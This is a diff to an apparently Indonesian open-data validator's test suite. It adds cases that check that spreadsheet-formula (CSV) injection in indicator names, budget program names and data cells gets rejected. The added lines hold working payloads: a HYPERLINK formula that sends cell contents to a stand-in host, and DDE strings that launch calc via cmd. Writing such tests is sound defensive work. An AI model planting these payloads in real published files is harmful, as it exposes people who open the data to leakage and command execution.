@@ -303,6 +303,17 @@ CASES = [
          "kolom 'laki' berisi angka, tetapi sel ini berisi '-'; tulis 0 bila nilainya nol"),
     Case("csv-galat-rumus", write(f"{R}/data/penduduk.csv", "desa,laki,perempuan\nA,120,130\nB,1,#DIV/0!\n"),
          f"{R}/data/penduduk.csv", 3, "sel ini berisi '#DIV/0!'; itu galat rumus Excel"),
+    # text a spreadsheet reads as a formula (CSV injection): published as it is in the open data's CSV (indikator.csv,
+    # anggaran.csv) and in data/, it ran in the Excel of a citizen who opened it: an indicator's name (line 3), a
+    # program's (line 4), a dataset's cell (line 3)
+    Case("nama-rumus-excel", replace(INDIKATOR, "nama: Indeks Kepuasan Masyarakat",
+                                     """nama: '=HYPERLINK("https://contoh.test/?"&A1,"Rincian")'"""), INDIKATOR, 3,
+         "' diawali '=', yang dibaca Excel dan LibreOffice sebagai awal rumus saat warga membuka data terbuka (CSV)"),
+    Case("anggaran-nama-rumus", replace(ANGGARAN, "nama: Program Penyelenggaraan Pemerintahan dan Pelayanan Publik",
+                                        "nama: \"-2+3+cmd|' /C calc'!A0\""), ANGGARAN, 4,
+         "diawali '-', yang dibaca Excel dan LibreOffice sebagai awal rumus"),
+    Case("csv-sel-rumus", write(f"{R}/data/penduduk.csv", "desa,laki\nA,120\n\"@SUM(1+1)*cmd|' /C calc'!A0\",130\n"),
+         f"{R}/data/penduduk.csv", 3, "sel CSV '@SUM(1+1)*cmd|' /C calc'!A0' diawali '@'"),
     Case("csv-negatif-kurung", write(f"{R}/data/penduduk.csv", "desa,selisih\nA,120\nB,(1.250)\n"),
          f"{R}/data/penduduk.csv", 3,
          "sel ini berisi '(1.250)'; angka negatif ditulis dengan tanda minus: tulis -1250"),
